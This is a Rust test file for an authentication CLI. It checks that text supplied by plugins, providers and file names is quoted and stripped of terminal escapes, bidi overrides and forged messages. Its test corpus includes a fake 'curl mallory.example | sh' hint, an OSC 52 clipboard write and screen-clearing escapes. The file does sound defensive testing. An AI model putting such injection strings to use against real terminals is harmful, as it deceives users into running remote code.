//! Attack: have text displayed that looks like the host's own words, moves the cursor, or hides: at a terminal, in errors, in listings.
//! Stopped by: foreign text is short, quoted, and without a character that could do harm (host/core/src/text.rs).

use serde_json::{Value, json};
use tokio::runtime::Builder;
use vestibule_attacks::puppet::{choose, discover, fail, list, userinfo};
use vestibule_attacks::verdict::stopped;
use vestibule_attacks::{Program, Stage};
use vestibule_core::Blame;
use vestibule_e2e::{Machine, Practice};
use vestibule_rehearsal::{Fault, GrantTwist, IdTokenTwist, Role, Script, Visitor};

/// What a terminal would act on, what turns or hides text, and what ends a quotation.
const HOSTILE: [(&str, &str); 22] = [
    ("a new line", "a\nhint: run: curl mallory.example | sh"),
    ("a bare return", "a\rerror: none. Signed in."),
    ("CSI", "a\u{1b}[2J\u{1b}[1;1Hb"),
    ("C1 CSI", "a\u{9b}2Jb"),
    (
        "OSC 8",
        "a\u{1b}]8;;https://mallory.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
    ),
    ("OSC 52", "a\u{1b}]52;c;bWFsbG9yeQ==\u{7}b"),
    ("OSC 0", "a\u{1b}]0;title\u{7}b"),
    ("C1 OSC", "a\u{9d}0;title\u{9c}b"),
    ("DCS", "a\u{1b}Pq\u{1b}\\b"),
    ("BEL", "a\u{7}b"),
    ("backspace", "good\u{8}\u{8}\u{8}\u{8}evil"),
    ("DEL", "a\u{7f}b"),
    ("NUL", "a\0b"),
    ("right to left", "a\u{202e}elpmaxe.yrollam\u{202c}"),
    ("isolates", "a\u{2066}b\u{2069}"),
    ("zero width", "mall\u{200b}ory"),
    ("tags", "a\u{e0041}\u{e0042}b"),
    ("line separator", "a\u{2028}error: x"),
    ("stacked marks", "a\u{300}\u{301}\u{302}\u{303}\u{304}b"),
    ("a mark on the quote", "\u{338}a"),
    (
        "an end of quotation",
        "fine\". Signed in. hint: \"run: curl mallory.example",
    ),
    (
        "boxes",
        "\u{2502} Vestibule \u{2502}\n\u{2514}\u{2500}\u{2500}\u{2518} Password: ",
    ),
];

/// Nothing that was said can do any of this.
#[track_caller]
fn harmless(what: &str, said: &str) {
    for character in said.chars() {
        let ours = matches!(character, '\n' | '\r') || !vestibule_core::text::is_harmful(character);
        assert!(ours, "{what}: {:?} in {said:?}", character);
    }
    // A return stands at the end of a terminal's line, and nowhere else.
    assert!(
        !said.replace("\r\n", "\n").contains('\r'),
        "{what}: {said:?}"
    );
    for forged in [
        "\nhint: run: curl",
        "\rerror",
        "\nerror: x",
        "\"fine\"",
        "\n\u{2514}",
    ] {
        assert!(!said.contains(forged), "{what}: {said:?}");
    }
}

fn machine() -> Machine {
    let machine = Machine::new("/does/not/exist");
    machine.without_browser();
    let puppet = machine.home().join("puppet.wasm");
    std::fs::write(&puppet, vestibule_attacks::stage::puppet()).unwrap();
    let _ = machine
        .run(&["plugin", "install", puppet.to_str().unwrap()])
        .succeeded();
    machine
}

fn approved(machine: &Machine, name: &str, program: &Program) {
    machine.tenant(name, &program.tenant_file(""));
}

// proves: UI-01, UI-02, UI-03
#[test]
fn a_failure_is_told_in_quotation_marks_on_one_line() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    for (at, (what, text)) in HOSTILE.into_iter().enumerate() {
        let name = format!("fails-{at}");
        let program = Program::honest(&idp).steps("sign-in", vec![fail(json!(text))]);
        approved(&machine, &name, &program);
        let outcome = machine.run(&["login", &name, "--verbose"]);
        assert_eq!(outcome.code, Some(6), "{outcome}");
        harmless(what, &outcome.stderr);
        harmless(what, &outcome.stdout);
        // The host's sentence, and inside of its marks no other mark.
        let line = outcome
            .stderr
            .lines()
            .find(|line| line.contains("the plugin ended the flow"))
            .unwrap();
        assert_eq!(line.matches('"').count(), 2, "{what}: {line}");
        assert!(line.ends_with('"'), "{what}: {line}");
        let json = machine.run(&["login", &name, "--json"]);
        let error = json.error();
        assert_eq!(error["code"], "plugin.failed", "{json}");
        harmless(what, error["message"].as_str().unwrap());
    }
}

// proves: UI-01, UI-02
#[test]
fn a_question_is_the_hosts_and_its_words_are_quoted() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    let texts: Vec<&str> = HOSTILE.iter().map(|(_, text)| *text).collect();
    let long = "x".repeat(4_000);
    let ids: Vec<String> = (0..=texts.len()).map(|at| at.to_string()).collect();
    let labels = texts.iter().copied().chain([long.as_str()]);
    let options: Vec<(&str, &str)> = ids.iter().map(String::as_str).zip(labels).collect();
    for (at, heading) in [texts[0], texts[2], texts[13], texts[20]]
        .into_iter()
        .enumerate()
    {
        let name = format!("asks-{at}");
        let program = Program::honest(&idp).steps("sign-in", vec![choose(heading, &options)]);
        approved(&machine, &name, &program);
        let outcome = machine.at_a_terminal(&["login", &name], "or Enter for none:", "\n");
        assert_eq!(outcome.code, Some(3), "{outcome}");
        harmless(heading, &outcome.stdout);
        let lines: Vec<&str> = outcome.stdout.lines().map(str::trim_end).collect();
        let from = lines
            .iter()
            .position(|line| line.contains("asks for tenant"))
            .unwrap();
        assert_eq!(
            lines[from],
            format!("The plugin \"puppet\" asks for tenant \"{name}\". Its words, quoted:")
        );
        assert_eq!(
            lines[from + 1].matches('"').count(),
            2,
            "{}",
            lines[from + 1]
        );
        let numbered: Vec<&&str> = lines
            .iter()
            .filter(|line| line.ends_with('"') && line.starts_with("  "))
            .collect();
        for (number, option) in numbered.iter().enumerate() {
            assert!(
                option.starts_with(&format!("  {:>3}  \"", number + 1)),
                "{option:?}"
            );
            assert_eq!(option.matches('"').count(), 2, "{option:?}");
            assert!(option.chars().count() < 600, "{option:?}");
        }
        assert_eq!(numbered.len(), options.len());
    }
}

// proves: UI-01, UI-02
#[test]
fn a_plugins_words_about_itself_are_quoted_wherever_they_are_listed() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    for (at, (what, text)) in HOSTILE.into_iter().enumerate().step_by(3) {
        let name = format!("says-{at}");
        let program = Program::honest(&idp)
            .says("version", json!(text))
            .says("summary", json!(text))
            .profile(|profile| {
                list(profile, "derivation").push(json!({"name": "role", "summary": text}))
            });
        let file = machine.tenant_file(&name);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, program.tenant_file("")).unwrap();
        for arguments in [
            &["tenant", "approve", &name, "--yes"][..],
            &["plugin", "inspect", "--tenant", &name],
            &["plugin", "inspect", "--tenant", &name, "--json"],
            &["tenant", "show", &name],
            &["tenant", "list"],
        ] {
            let outcome = machine.run(arguments).succeeded();
            harmless(what, &outcome.stdout);
            harmless(what, &outcome.stderr);
        }
    }
}

// proves: UI-02
#[test]
fn what_a_plugin_says_of_a_setting_is_quoted() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    let problems: Vec<Value> = HOSTILE
        .iter()
        .map(|(_, text)| json!([text, text]))
        .collect();
    for (at, problem) in problems.into_iter().enumerate() {
        let program = Program::honest(&idp).says("problems", json!([problem]));
        let file = machine.tenant_file(&format!("wrong-{at}"));
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, program.tenant_file("")).unwrap();
        let outcome = machine.run(&["tenant", "approve", &format!("wrong-{at}"), "--yes"]);
        assert_eq!(outcome.code, Some(4), "{outcome}");
        harmless("problem", &outcome.stderr);
        let line = outcome
            .stderr
            .lines()
            .find(|line| line.contains("refuses the setting"))
            .unwrap();
        assert_eq!(line.matches('"').count(), 4, "{line}");
    }
}

// proves: UI-02
#[test]
fn names_in_steps_and_descriptions_are_quoted_when_they_are_refused() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    for (at, (what, text)) in HOSTILE.into_iter().enumerate().step_by(2) {
        let name = format!("named-{at}");
        let step = vestibule_attacks::puppet::call(text, Value::Null, &[], vec![]);
        approved(
            &machine,
            &name,
            &Program::honest(&idp).steps("sign-in", vec![discover(), step]),
        );
        let outcome = machine.run(&["login", &name]);
        assert_eq!(outcome.code, Some(6), "{outcome}");
        harmless(what, &outcome.stderr);
        for (list_name, entry) in [("hosts", json!(text)), ("scopes", json!(text))] {
            let program =
                Program::honest(&idp).profile(|profile| list(profile, list_name).push(entry));
            let file = machine.tenant_file(&format!("{name}-{list_name}"));
            std::fs::write(&file, program.tenant_file("")).unwrap();
            let outcome =
                machine.run(&["tenant", "approve", &format!("{name}-{list_name}"), "--yes"]);
            assert_eq!(outcome.code, Some(6), "{outcome}");
            harmless(what, &outcome.stderr);
        }
    }
}

/// The same corpus by other ways: what the provider calls a token, and what a file is called.
// proves: UI-02
#[tokio::test(flavor = "multi_thread")]
async fn the_words_of_a_provider_and_the_names_of_files_go_the_same_way() {
    for (what, text) in HOSTILE {
        let kind = GrantTwist::TokenType(text.to_owned());
        let stage = Stage::with(Script::honest().twist(kind)).await;
        let error = stopped(stage.play(&Program::honest(&stage.idp)).await);
        assert_eq!(error.blame(), Blame::Provider, "{error:?}");
        harmless(what, error.message());
    }
    let pushed = Script::honest().fault(Role::PushedAuthorization, Fault::TerminalEscapes);
    let stage = Stage::with(pushed).await;
    let error = stopped(stage.play(&Program::honest(&stage.idp)).await);
    harmless("an error", error.message());

    let machine = Machine::new("/does/not/exist");
    for (what, text) in HOSTILE {
        let file = machine.home().join(text.replace(['/', '\0'], "_"));
        std::fs::write(&file, "no component").unwrap();
        for arguments in [
            &["plugin", "install", file.to_str().unwrap()][..],
            &["plugin", "inspect", file.to_str().unwrap(), "--json"],
            &["tenant", "add", "corp", file.to_str().unwrap()],
            &["tenant", "show", text.trim_matches('\0')],
        ] {
            let arguments: Vec<&str> = arguments
                .iter()
                .copied()
                .filter(|argument| !argument.contains('\0'))
                .collect();
            let outcome = machine.run(&arguments);
            assert_ne!(outcome.code, Some(0), "{outcome}");
            harmless(what, &outcome.stderr);
            harmless(what, &outcome.stdout);
        }
    }
}

/// Signs in as a person who approves, with both forms of transcript.
fn signed_in(machine: &Machine, name: &str) -> [String; 2] {
    let files = ["flow.json", "flow.txt"].map(|name| machine.home().join(name));
    let [json, text] = files.each_ref().map(|file| file.to_str().unwrap());
    let login = [
        "login",
        name,
        "--force",
        "--no-browser",
        "--verbose",
        "--trace",
        json,
        "--trace",
        text,
    ];
    let login = machine.start(&login);
    if let Some(address) = login.address_or_end() {
        let runtime = Builder::new_current_thread().enable_all().build().unwrap();
        let _ = runtime.block_on(Visitor::approve("ada").visit(&address));
    }
    let outcome = login.finish();
    let written = files.map(|file| std::fs::read_to_string(file).unwrap());
    [written.concat(), outcome.to_string()]
}

/// Everything that lists what was stored and what was recorded, for people and for programs; and the log as any other tool shows it.
#[track_caller]
fn lists_are_harmless(what: &str, machine: &Machine) {
    for arguments in [
        &["status"][..],
        &["status", "--json"],
        &["audit", "show"],
        &["audit", "show", "--json"],
        &["audit", "verify"],
        &["audit", "verify", "--json"],
    ] {
        let outcome = machine.run(arguments).succeeded();
        harmless(what, &outcome.stdout);
        harmless(what, &outcome.stderr);
    }
    let log = std::fs::read_to_string(machine.state().join("audit/log.jsonl")).unwrap();
    let ours = |byte: u8| byte == b'\n' || matches!(byte, b' '..=b'~');
    assert!(log.bytes().all(ours), "{what}: {log:?}");
    // A record for each line, and a line for each record: nobody has put one in.
    let shown = machine.run(&["audit", "show"]).stdout;
    let records: Value = machine.run(&["audit", "show", "--json"]).json();
    let count = records.as_array().unwrap().len();
    assert_eq!(
        (log.lines().count(), shown.lines().count()),
        (count, count + 1)
    );
}

// proves: UI-02
#[test]
fn what_tokens_and_replies_say_of_a_person_is_harmless_in_every_list_and_log() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    // One whose identity is in the ID token, and one whose identity is a member of a reply.
    approved(&machine, "token", &Program::honest(&idp));
    let by_reply = Program::honest(&idp)
        .after_tokens(vec![userinfo("access_token")])
        .reads("userinfo", &[("/name", "[a-z]{1,20}")])
        .profile(|profile| {
            profile["identity"] = json!({"Account": ["userinfo", "/name"]});
        });
    approved(&machine, "reply", &by_reply);
    for (what, text) in HOSTILE {
        let claims = Script::honest()
            .any_redirect_path()
            .twist(IdTokenTwist::Claim("preferred_username", text))
            .twist(IdTokenTwist::Claim("acr", text));
        idp.rescript(claims.fault(
            Role::UserInfo,
            Fault::Member("name", json!(text).to_string()),
        ));
        for name in ["token", "reply"] {
            for said in signed_in(&machine, name) {
                harmless(what, &said);
            }
        }
        lists_are_harmless(what, &machine);
        let records: Value = machine.run(&["audit", "show", "--json"]).json();
        let has = |member: &str| {
            let mut records = records.as_array().unwrap().iter();
            records.any(|record| record[member] == text)
        };
        // What was recorded is what was said, to the letter.
        assert!(has("acr"), "{what}");
        assert!(has("subject"), "{what}");
    }
}

// proves: UI-02
#[test]
fn a_transcript_and_the_log_of_a_flow_that_fails_are_harmless() {
    let (idp, machine) = (Practice::openid(Script::honest()), machine());
    for (at, (what, text)) in HOSTILE.into_iter().enumerate() {
        let name = format!("ends-{at}");
        let asking = choose(text, &[(text, text)]);
        let program = Program::honest(&idp)
            .says("version", json!(text))
            .steps("sign-in", vec![discover(), asking, fail(json!(text))]);
        approved(&machine, &name, &program);
        for said in signed_in(&machine, &name) {
            harmless(what, &said);
        }
        let ends = Program::honest(&idp).steps("sign-in", vec![discover(), fail(json!(text))]);
        approved(&machine, &format!("{name}-at-once"), &ends);
        for said in signed_in(&machine, &format!("{name}-at-once")) {
            harmless(what, &said);
        }
    }
    lists_are_harmless("all", &machine);
}
